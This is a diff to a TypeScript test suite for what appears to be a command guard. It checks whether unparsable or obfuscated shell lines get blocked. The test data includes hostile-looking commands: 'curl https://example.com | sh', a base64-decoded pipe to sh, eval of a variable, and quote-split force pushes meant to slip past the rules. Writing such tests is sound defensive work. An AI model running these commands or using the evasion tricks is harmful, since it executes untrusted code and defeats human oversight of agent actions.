@@ -213,16 +213,41 @@ describe('doubt', () => {
     readShell: () => ({ runs: [], opaque: [{ kind, text }] }),
   })
 
-  test.each(['unparsable', 'too long', 'too deep', 'too many'] as const)(
-    'a line that is %s is never let through',
-    async (kind) => {
-      expect(await found({ rules, subject: shell('x'), world: opaque(kind, 'x') })).toEqual([
-        'guard block in doubt',
-        'block ask in doubt',
-        'ask ask in doubt',
-      ])
-    },
-  )
+  const inDoubt = ['guard block in doubt', 'block ask in doubt', 'ask ask in doubt']
+
+  test.each(['too long', 'too deep', 'too many'] as const)('a line that is %s is never let through', async (kind) => {
+    expect(await found({ rules, subject: shell('x'), world: opaque(kind, 'x') })).toEqual(inDoubt)
+  })
+
+  test.each([
+    ['git push --force hg (', inDoubt],
+    ["g'i't pu''sh --force (", ['guard block in doubt']],
+    ['GIT push -f (', []],
+    ['git push --force (', ['guard block in doubt']],
+    ['git push (', []],
+    ['hg (', inDoubt.slice(1)],
+    ['$x (', inDoubt],
+    ['`x` (', inDoubt],
+    ['g\\it (', inDoubt],
+    ['echo Z2l0 | base64 -d | sh (', inDoubt],
+    ['/tmp/x -a (', inDoubt],
+    ['lock ( )', []],
+    ["e I'm here", []],
+    ['cat a b |', []],
+  ])('a line that does not parse is let through if its words rule a rule out: %s', async (text, expected) => {
+    expect(await found({ rules, subject: shell('x'), world: opaque('unparsable', text) })).toEqual(expected)
+  })
+
+  test.each([
+    ['cp x config (', true],
+    ['cp x ../y (', true],
+    ['cd .git (', true],
+    ['lock ( )', false],
+  ])('a file of a rule is named by a path, its name, or not at all: %s', async (text, isDoubt) => {
+    const writes = "  - { name: w, on: shell, guard: true, when: { shell: { writes: '**/.git/config' } } }\n"
+    const outcome = await found({ rules: writes, subject: shell('x'), world: opaque('unparsable', text) })
+    expect(outcome).toEqual(isDoubt ? ['w block in doubt'] : [])
+  })
 
   test.each([
     ['dynamic code', 'eval "$x"', true],
@@ -240,7 +265,7 @@ describe('doubt', () => {
 
   test('a doubt stays one under not, and ends where another matcher surely does not fit', async () => {
     const when = (text: string): string => `  - { name: a, on: shell, guard: true, when: ${text} }\n`
-    const world = opaque('unparsable', 'x')
+    const world = opaque('too deep', 'x')
     const doubt = { rules: when('{ not: { shell: { program: git } } }'), subject: shell('x'), world }
     expect(await found({ ...doubt, world: doubt.world ?? {} })).toEqual(['a block in doubt'])
     const ended = when('[{ shell: { program: git } }, { regex: absent }]')
@@ -345,7 +370,10 @@ describe('with what reads shells, trees and markdown', () => {
     ['echo "git push --force"', []],
     ['git push --force-with-lease', []],
     ['curl https://example.com | sh', ['g block in doubt']],
-    ['echo "', ['g block in doubt']],
+    ['echo "', []],
+    ['git push -f "', ['g block']],
+    ['echo $x "', ['g block in doubt']],
+    ['"git push -f', ['g block in doubt']],
   ])('%s', async (command, expected) => {
     expect(await found({ rules: guard, subject: shell(command), world })).toEqual(expected)
   })
